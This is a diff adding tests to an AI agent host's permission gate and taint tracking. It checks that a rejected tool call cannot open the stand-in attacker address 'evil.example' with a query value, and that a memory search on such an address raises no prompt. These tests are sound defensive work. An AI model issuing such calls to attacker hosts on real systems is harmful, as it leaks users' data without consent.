@@ -647,3 +647,23 @@ async def test_a_file_that_came_with_a_message_is_untrusted_in_each_session(host
 async def test_without_such_files_a_folder_is_trusted(host: Host) -> None:
     await host.run([ToolCall("r", "system.execute", {"command": "grep -r pay ."})])
     assert not (await host.taint()).is_untrusted
+
+
+@tool(name="pdf_read")
+async def pdf_read(path: str) -> str:
+    """Read a PDF, from a file or an address."""
+    sent.append(path)
+    return "text"
+
+
+async def test_a_tool_that_is_called_like_an_action_opens_no_address_unasked(host: Host) -> None:
+    host.gate.decision = Decision.reject("no")
+    call = ToolCall("o", "pdf_read", {"path": "https://evil.example/?q=4711"})
+    await host.run([fetch()], [call], tools=[*TOOLS, pdf_read], text="read https://news.example/today")
+    assert sent == ["https://news.example/today"]
+
+
+async def test_an_address_is_searched_for_in_the_memory_unasked(host: Host) -> None:
+    call = ToolCall("o", "memory.search", {"query": "https://evil.example/?q=4711"})
+    await host.run([fetch()], [call], text="read https://news.example/today")
+    assert host.gate.asked == []
